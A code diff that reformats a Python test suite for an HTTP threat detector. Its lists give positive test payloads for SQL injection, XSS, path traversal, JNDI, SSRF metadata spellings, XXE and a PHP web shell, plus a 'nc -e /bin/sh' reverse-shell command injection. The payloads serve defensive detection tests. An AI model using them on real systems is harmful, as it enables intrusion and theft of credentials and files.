@@ -27,8 +27,9 @@ def q(value: str, name: str = "q") -> Observation:
 
 def js(value: object) -> Observation:
     body = json.dumps({"user": {"name": "bob", "bio": value}}).encode()
-    return Observation("file", method="POST", path="/u",
-                       headers=[("content-type", "application/json")], body=body)
+    return Observation(
+        "file", method="POST", path="/u", headers=[("content-type", "application/json")], body=body
+    )
 
 
 def hdr(value: str, name: str = "user-agent") -> Observation:
@@ -45,36 +46,119 @@ def names(obs: Observation, det: ThreatDetector = DET) -> set[str]:
 
 # (threat name, payloads that must be found in a query value, a JSON leaf and a header)
 POSITIVES = [
-    ("SQL.Injection", ["1' OR '1'='1", "1 union/**/select password from users--",
-                       "admin'--", "1;waitfor delay '0:0:5'--", "1 AND SLEEP(5)"]),
-    ("Cross.Site.Scripting", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-                              "javascript:alert(document.cookie)", '" onmouseover="alert(1)',
-                              "<svg/onload=confirm(1)>"]),
-    ("Path.Traversal", ["../../../../etc/passwd", "..\\..\\windows\\win.ini",
-                        "/proc/self/environ", "....//....//etc/shadow", "..;/admin",
-                        "file:/etc/hosts", "\\.\\.\\/\\.\\.\\/conf", "x.php%00.gif"]),
+    (
+        "SQL.Injection",
+        [
+            "1' OR '1'='1",
+            "1 union/**/select password from users--",
+            "admin'--",
+            "1;waitfor delay '0:0:5'--",
+            "1 AND SLEEP(5)",
+        ],
+    ),
+    (
+        "Cross.Site.Scripting",
+        [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "javascript:alert(document.cookie)",
+            '" onmouseover="alert(1)',
+            "<svg/onload=confirm(1)>",
+        ],
+    ),
+    (
+        "Path.Traversal",
+        [
+            "../../../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "/proc/self/environ",
+            "....//....//etc/shadow",
+            "..;/admin",
+            "file:/etc/hosts",
+            "\\.\\.\\/\\.\\.\\/conf",
+            "x.php%00.gif",
+        ],
+    ),
     ("Remote.File.Inclusion", ["http://evil.example/shell.txt?", "include('http://x.test/a')"]),
-    ("Command.Injection", ["; cat /etc/passwd", "$(id)", "`whoami`", "a|nc -e /bin/sh 10.0.0.1",
-                           ";cat${IFS}/etc/passwd", "x && ping -c 3 127.0.0.1", "which wget",
-                           "$(true)", ";w'h'o'am'i", ";/???/c?t /???/p?ss??",
-                           "$(cat${HOME:0:1}x)"]),
-    ("Template.Injection", ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
-                            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-                            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"]),
-    ("JNDI.Injection", ["${jndi:ldap://evil.test/a}", "${${lower:j}ndi:ldap://x/a}",
-                        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
-                        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"]),
-    ("PHP.Injection", ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=x",
-                       'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "eval(base64_decode('aWQ='))"]),
-    ("NoSQL.Injection", ['{"$ne": null}', "'; return true; var x='",
-                         "' && this.password.match(/.*/)//", '{"$where": "sleep(100)"}']),
-    ("SSRF.Metadata", ["http://169.254.169.254/latest/meta-data/", "http://2852039166/",
-                       "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[::ffff:a9fe:a9fe]/",
-                       "http://metadata.google.internal/computeMetadata/v1/",
-                       "http://169.254.43518/", "http://[::ffff:169.254.169.254]/"]),
-    ("Java.Deserialization", ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced0005737200",
-                              '{"@type":"com.sun.rowset.JdbcRowSetImpl"}']),
-    ("XML.External.Entity", ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>']),
+    (
+        "Command.Injection",
+        [
+            "; cat /etc/passwd",
+            "$(id)",
+            "`whoami`",
+            "a|nc -e /bin/sh 10.0.0.1",
+            ";cat${IFS}/etc/passwd",
+            "x && ping -c 3 127.0.0.1",
+            "which wget",
+            "$(true)",
+            ";w'h'o'am'i",
+            ";/???/c?t /???/p?ss??",
+            "$(cat${HOME:0:1}x)",
+        ],
+    ),
+    (
+        "Template.Injection",
+        [
+            "{{7*7}}",
+            "${7*7}",
+            "<%= 7*7 %>",
+            "#{7*7}",
+            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}",
+        ],
+    ),
+    (
+        "JNDI.Injection",
+        [
+            "${jndi:ldap://evil.test/a}",
+            "${${lower:j}ndi:ldap://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
+        ],
+    ),
+    (
+        "PHP.Injection",
+        [
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=x",
+            'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
+            "eval(base64_decode('aWQ='))",
+        ],
+    ),
+    (
+        "NoSQL.Injection",
+        [
+            '{"$ne": null}',
+            "'; return true; var x='",
+            "' && this.password.match(/.*/)//",
+            '{"$where": "sleep(100)"}',
+        ],
+    ),
+    (
+        "SSRF.Metadata",
+        [
+            "http://169.254.169.254/latest/meta-data/",
+            "http://2852039166/",
+            "http://0xa9fea9fe/",
+            "http://0251.0376.0251.0376/",
+            "http://[::ffff:a9fe:a9fe]/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://169.254.43518/",
+            "http://[::ffff:169.254.169.254]/",
+        ],
+    ),
+    (
+        "Java.Deserialization",
+        [
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+            "aced0005737200",
+            '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
+        ],
+    ),
+    (
+        "XML.External.Entity",
+        ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'],
+    ),
 ]
 
 
@@ -86,8 +170,11 @@ def test_positive_in_query_json_and_header(name: str, payload: str) -> None:
 
 
 def test_every_threat_name_is_covered() -> None:
-    covered = {n for n, _ in POSITIVES} | {"HTTP.Request.Smuggling", "HTTP.Negative.Body.Length",
-                                           "HTTP.Header.Injection"}
+    covered = {n for n, _ in POSITIVES} | {
+        "HTTP.Request.Smuggling",
+        "HTTP.Negative.Body.Length",
+        "HTTP.Header.Injection",
+    }
     assert covered == set(HTTP_THREATS)
 
 
@@ -103,12 +190,15 @@ ENCODINGS = {
 
 
 @pytest.mark.parametrize("encoding", sorted(ENCODINGS))
-@pytest.mark.parametrize(("name", "payload"), [
-    ("SQL.Injection", "1' or '1'='1"),
-    ("Cross.Site.Scripting", "<script>alert(1)</script>"),
-    ("Path.Traversal", "../../etc/passwd"),
-    ("Command.Injection", ";cat /etc/passwd"),
-])
+@pytest.mark.parametrize(
+    ("name", "payload"),
+    [
+        ("SQL.Injection", "1' or '1'='1"),
+        ("Cross.Site.Scripting", "<script>alert(1)</script>"),
+        ("Path.Traversal", "../../etc/passwd"),
+        ("Command.Injection", ";cat /etc/passwd"),
+    ],
+)
 def test_encodings_are_undone(encoding: str, name: str, payload: str) -> None:
     encoded = ENCODINGS[encoding](payload)
     assert name in names(q(encoded)), (encoding, encoded)
@@ -128,48 +218,84 @@ def test_other_locations() -> None:
     assert ("Path.Traversal", "path") in found(path)
     cookie = hdr("theme=dark; sid=1'%20or%201=1--", name="cookie")
     assert ("SQL.Injection", "header:cookie:sid") in found(cookie)
-    form = Observation("file", method="POST", path="/login",
-                       headers=[("content-type", "application/x-www-form-urlencoded")],
-                       body=b"user=admin%27--&pw=x")
+    form = Observation(
+        "file",
+        method="POST",
+        path="/login",
+        headers=[("content-type", "application/x-www-form-urlencoded")],
+        body=b"user=admin%27--&pw=x",
+    )
     assert ("SQL.Injection", "body:user") in found(form)
     multipart = Observation(
-        "file", method="POST", path="/up",
+        "file",
+        method="POST",
+        path="/up",
         headers=[("content-type", "multipart/form-data; boundary=zz")],
-        body=(b'--zz\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n'
-              b"<?php system($_GET[1]); ?>\r\n--zz--\r\n"),
+        body=(
+            b'--zz\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n'
+            b"<?php system($_GET[1]); ?>\r\n--zz--\r\n"
+        ),
     )
     assert {("Path.Traversal", "body:f.filename"), ("PHP.Injection", "body:f")} <= found(multipart)
-    xml = Observation("file", method="POST", path="/x", headers=[("content-type", "text/xml")],
-                      body=b"<a><b>1 union select 1</b></a>")
+    xml = Observation(
+        "file",
+        method="POST",
+        path="/x",
+        headers=[("content-type", "text/xml")],
+        body=b"<a><b>1 union select 1</b></a>",
+    )
     assert ("SQL.Injection", "body:$.a.b") in found(xml)
     param_name = Observation("file", path="/", query="user%5B%24ne%5D=1")
     assert ("NoSQL.Injection", "query:user[$ne]") in found(param_name)
     nosql_key = js({"$gt": ""})
     assert ("NoSQL.Injection", "body:$.user.bio") in found(nosql_key)
-    raw = Observation("file", method="POST", path="/r", headers=[("content-type", "text/plain")],
-                      body=b"hello ${jndi:ldap://x/a}")
+    raw = Observation(
+        "file",
+        method="POST",
+        path="/r",
+        headers=[("content-type", "text/plain")],
+        body=b"hello ${jndi:ldap://x/a}",
+    )
     assert ("JNDI.Injection", "body") in found(raw)
-    binary = Observation("file", method="POST", path="/r",
-                         headers=[("content-type", "application/octet-stream")],
-                         body=b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap")
+    binary = Observation(
+        "file",
+        method="POST",
+        path="/r",
+        headers=[("content-type", "application/octet-stream")],
+        body=b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
+    )
     assert ("Java.Deserialization", "body") in found(binary)
-    grpc = Observation("file", method="POST", path="/pkg.Svc/Get",
-                       headers=[("content-type", "application/grpc")],
-                       body=b"\x00\x00\x00\x00\x1a\n\x18../../../../etc/passwd")
+    grpc = Observation(
+        "file",
+        method="POST",
+        path="/pkg.Svc/Get",
+        headers=[("content-type", "application/grpc")],
+        body=b"\x00\x00\x00\x00\x1a\n\x18../../../../etc/passwd",
+    )
     assert ("Path.Traversal", "body") in found(grpc)
 
 
 def test_grpc_protobuf_framing_is_not_a_newline() -> None:
     """Protobuf tag 0x0a before a field named `id` is framing, not an injected command line."""
-    struct = (b"\x00\x00\x00\x00\x0f\x0a\x0d\x0a\x02id\x12\x07\x19\x00\x00\x00\x00\x00"
-              b"\x00\x1c\x40")
-    grpc = Observation("file", method="POST", path="/pkg.Svc/Get",
-                       headers=[("content-type", "application/grpc")], body=struct)
+    struct = b"\x00\x00\x00\x00\x0f\x0a\x0d\x0a\x02id\x12\x07\x19\x00\x00\x00\x00\x00\x00\x1c\x40"
+    grpc = Observation(
+        "file",
+        method="POST",
+        path="/pkg.Svc/Get",
+        headers=[("content-type", "application/grpc")],
+        body=struct,
+    )
     assert DET.inspect(grpc).threats == []
     evil = struct + b"\x12\x10; cat /etc/passwd"
-    assert {"Command.Injection", "Path.Traversal"} <= names(grpc.__class__(
-        "file", method="POST", path="/pkg.Svc/Get",
-        headers=[("content-type", "application/grpc")], body=evil))
+    assert {"Command.Injection", "Path.Traversal"} <= names(
+        grpc.__class__(
+            "file",
+            method="POST",
+            path="/pkg.Svc/Get",
+            headers=[("content-type", "application/grpc")],
+            body=evil,
+        )
+    )
 
 
 def test_smuggling_and_negative_length() -> None:
@@ -204,18 +330,49 @@ def test_header_injection() -> None:
 
 
 BENIGN = [
-    "Alice O'Brien", "don't stop me now", "Rock & Roll", "AT&T", "Terms & conditions apply",
-    "Please select an option from the list", "order by date, then by name", "1 or 2 items",
-    "https://example.com/path?x=1&y=2", "/api/v1/users/42", "C:\\Users\\alice\\file.txt",
-    "SELECT your seat", "50% off", "user@example.com", "+44 20 7946 0958", "hello world!",
+    "Alice O'Brien",
+    "don't stop me now",
+    "Rock & Roll",
+    "AT&T",
+    "Terms & conditions apply",
+    "Please select an option from the list",
+    "order by date, then by name",
+    "1 or 2 items",
+    "https://example.com/path?x=1&y=2",
+    "/api/v1/users/42",
+    "C:\\Users\\alice\\file.txt",
+    "SELECT your seat",
+    "50% off",
+    "user@example.com",
+    "+44 20 7946 0958",
+    "hello world!",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
-    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "en-GB,en;q=0.9",
-    "It's a 5' 10\" person", "price <= 100", "a < b and c > d", "Café crème brûlée",
-    "sid=abc123; theme=dark", "What is 2+2?", "the ping of the bell", "cat lovers unite",
-    "id", "ls", "1.2.3.4", "10.0.0.1", "{name} placeholder", "${HOME} is a variable",
-    "2852039166 is my order number", "I said \"hello\"", "page=2", "see the README for details",
-    "rock 'n' roll", "<b>bold</b>", "x = y", "Version 1.2.3 (build 45)",
-    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln", "The union of sets A and B",
+    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+    "en-GB,en;q=0.9",
+    "It's a 5' 10\" person",
+    "price <= 100",
+    "a < b and c > d",
+    "Café crème brûlée",
+    "sid=abc123; theme=dark",
+    "What is 2+2?",
+    "the ping of the bell",
+    "cat lovers unite",
+    "id",
+    "ls",
+    "1.2.3.4",
+    "10.0.0.1",
+    "{name} placeholder",
+    "${HOME} is a variable",
+    "2852039166 is my order number",
+    'I said "hello"',
+    "page=2",
+    "see the README for details",
+    "rock 'n' roll",
+    "<b>bold</b>",
+    "x = y",
+    "Version 1.2.3 (build 45)",
+    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln",
+    "The union of sets A and B",
 ]
 
 
@@ -241,8 +398,13 @@ def test_levels() -> None:
 
 def test_evidence_is_bounded_and_escaped() -> None:
     payload = "<script>" + "A" * 500 + "\x01\x1b</script>"
-    obs = Observation("file", method="POST", path="/", headers=[("content-type", "text/plain")],
-                      body=("\x1b[31m" + "'; " * 100 + "union select 1").encode())
+    obs = Observation(
+        "file",
+        method="POST",
+        path="/",
+        headers=[("content-type", "text/plain")],
+        body=("\x1b[31m" + "'; " * 100 + "union select 1").encode(),
+    )
     for t in DET.inspect(q(payload)).threats + DET.inspect(obs).threats:
         assert len(t.evidence) <= 128
         assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in t.evidence), t.evidence
@@ -250,10 +412,20 @@ def test_evidence_is_bounded_and_escaped() -> None:
 
 def test_hostile_input_is_bounded() -> None:
     cases = [
-        Observation("file", method="POST", path="/", headers=[("content-type", "application/json")],
-                    body=b'{"a": "' + b"' or 1=1 " * (1 << 20) + b'"}'),  # ~9 MB
-        Observation("file", method="POST", path="/", headers=[("content-type", "application/json")],
-                    body=b"[" * 10_000 + b"]" * 10_000),
+        Observation(
+            "file",
+            method="POST",
+            path="/",
+            headers=[("content-type", "application/json")],
+            body=b'{"a": "' + b"' or 1=1 " * (1 << 20) + b'"}',
+        ),  # ~9 MB
+        Observation(
+            "file",
+            method="POST",
+            path="/",
+            headers=[("content-type", "application/json")],
+            body=b"[" * 10_000 + b"]" * 10_000,
+        ),
         Observation("file", method="POST", path="/", body=bytes(range(256)) * 4096),
         Observation("file", path="/", query="&".join(["a=%27"] * 1_000_000)),
         Observation("file", path="/", query="x=" + "(" * 100_000 + "%27" * 50_000),
@@ -297,8 +469,16 @@ def test_findings_limit() -> None:
 
 
 def test_metadata_address_spellings() -> None:
-    for text in ("169.254.169.254", "http://2852039166/", "0xA9FEA9FE", "0251.0376.0251.0376",
-                 "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "[::ffff:a9fe:a9fe]", "100.100.100.200"):
+    for text in (
+        "169.254.169.254",
+        "http://2852039166/",
+        "0xA9FEA9FE",
+        "0251.0376.0251.0376",
+        "0xa9.0xfe.0xa9.0xfe",
+        "169.254.43518",
+        "[::ffff:a9fe:a9fe]",
+        "100.100.100.200",
+    ):
         assert metadata_address(text.lower(), whole_value=True), text
     for text in ("169.254.169.253", "10.0.0.1", "order 2852039166", "1.2.3.4"):
         assert not metadata_address(text), text
@@ -330,13 +510,72 @@ def test_default_detector_is_shared_and_a_detector() -> None:
 
 
 FRAGMENTS = [
-    "'", '"', "`", " or ", "1=1", "--", "#", "/*", "*/", "union", " select ", "<", ">",
-    "script", "onerror=", "javascript:", "../", "..\\", "/etc/passwd", ";", "|", "$(", "${",
-    "{{", "}}", "7*7", "jndi:", "ldap://", "$ne", "[$gt]", "169.254.169.254", "rO0AB", "<?php",
-    "%27", "%2e%2e%2f", "&#x3c;", "\\u003c", "%u002e", "\uff1c", "\x00", "id", "cat ", "sleep(5)",
-    "alert(1)", " ", "a", "=", "&", "+", "\n",
-    "w'h'o", "'am'i", "\\", "$@", "which ", "curl", "`true`", "false", "%00", ".jpg", "file:/",
-    "c:", "/???/", "c?t", "${PATH:0:1}", ".\\.\\/",
+    "'",
+    '"',
+    "`",
+    " or ",
+    "1=1",
+    "--",
+    "#",
+    "/*",
+    "*/",
+    "union",
+    " select ",
+    "<",
+    ">",
+    "script",
+    "onerror=",
+    "javascript:",
+    "../",
+    "..\\",
+    "/etc/passwd",
+    ";",
+    "|",
+    "$(",
+    "${",
+    "{{",
+    "}}",
+    "7*7",
+    "jndi:",
+    "ldap://",
+    "$ne",
+    "[$gt]",
+    "169.254.169.254",
+    "rO0AB",
+    "<?php",
+    "%27",
+    "%2e%2e%2f",
+    "&#x3c;",
+    "\\u003c",
+    "%u002e",
+    "\uff1c",
+    "\x00",
+    "id",
+    "cat ",
+    "sleep(5)",
+    "alert(1)",
+    " ",
+    "a",
+    "=",
+    "&",
+    "+",
+    "\n",
+    "w'h'o",
+    "'am'i",
+    "\\",
+    "$@",
+    "which ",
+    "curl",
+    "`true`",
+    "false",
+    "%00",
+    ".jpg",
+    "file:/",
+    "c:",
+    "/???/",
+    "c?t",
+    "${PATH:0:1}",
+    ".\\.\\/",
 ]
 
 
@@ -357,8 +596,13 @@ def test_prefilter_never_hides_a_finding(parts: list[str], where: str) -> None:
         obs = Observation("file", path="/x/" + value)
     else:
         ct = "application/x-www-form-urlencoded" if where == "form" else "text/plain"
-        obs = Observation("file", method="POST", path="/", headers=[("content-type", ct)],
-                          body=("f=" + value if where == "form" else value).encode())
+        obs = Observation(
+            "file",
+            method="POST",
+            path="/",
+            headers=[("content-type", ct)],
+            body=("f=" + value if where == "form" else value).encode(),
+        )
     assert found(obs) == found(obs, FULL), value
 
 
@@ -384,9 +628,16 @@ def test_hyperscan_agrees_with_re() -> None:
     from meshward.core.threats.normalise import normalise
 
     sigs = ThreatDetector(level=3).sigs
-    samples = [normalise(p) for _, ps in POSITIVES for p in ps] + [
-        "'; sleep(5000); '", "1; select 1", "x\n; select *", "a && ping -c 1 127.0.0.1",
-    ] + [f.lower() for f in FRAGMENTS]
+    samples = (
+        [normalise(p) for _, ps in POSITIVES for p in ps]
+        + [
+            "'; sleep(5000); '",
+            "1; select 1",
+            "x\n; select *",
+            "a && ping -c 1 127.0.0.1",
+        ]
+        + [f.lower() for f in FRAGMENTS]
+    )
     for text in samples:
         for prefix in ("", "x" * 40 + " ", "y" * 300 + "\n"):
             data = (prefix + text).encode("utf-8", "replace")
@@ -402,12 +653,22 @@ def test_surrogate_escapes_decode_to_whole_characters() -> None:
     assert decode("\\ud83d\\ude00 x") == "\U0001f600 x"
     assert decode("\\ud800 x") == "\ufffd x"
     assert decode('{"\\udc00": 1}') == '{"\ufffd": 1}'
-    raw = Observation("file", method="POST", path="/", headers=[("content-type", "text/plain")],
-                      body=b"\\ud800\\udc00 x' or 'a'='a")
+    raw = Observation(
+        "file",
+        method="POST",
+        path="/",
+        headers=[("content-type", "text/plain")],
+        body=b"\\ud800\\udc00 x' or 'a'='a",
+    )
     assert "SQL.Injection" in {t.name for t in default_detector().inspect(raw).threats}
     for body in (b'{"q": "\\ud800\' or 1=1 --"}', b'{"\\ud800\\udc00": "\\udc00\' or 1=1 --"}'):
-        obs = Observation("file", method="POST", path="/",
-                          headers=[("content-type", "application/json")], body=body)
+        obs = Observation(
+            "file",
+            method="POST",
+            path="/",
+            headers=[("content-type", "application/json")],
+            body=body,
+        )
         assert "SQL.Injection" in {t.name for t in default_detector().inspect(obs).threats}
 
 
@@ -415,8 +676,12 @@ def test_lone_surrogates_in_any_part_are_inspected() -> None:
     """No source should hand over text with surrogates, but one that does gets inspected, not
     an exception (the pre-filter encodes the head in one piece)."""
     det = default_detector()
-    obs = Observation("file", path="/\ud800/x", query="q=\udc80",
-                      headers=[("user-agent", "\udbff ' or 1=1 --"), ("x", "\ud800")])
+    obs = Observation(
+        "file",
+        path="/\ud800/x",
+        query="q=\udc80",
+        headers=[("user-agent", "\udbff ' or 1=1 --"), ("x", "\ud800")],
+    )
     assert "SQL.Injection" in {t.name for t in det.inspect(obs).threats}
     obs = Observation("file", path="/\ud800/../../etc/passwd")
     assert "Path.Traversal" in {t.name for t in det.inspect(obs).threats}
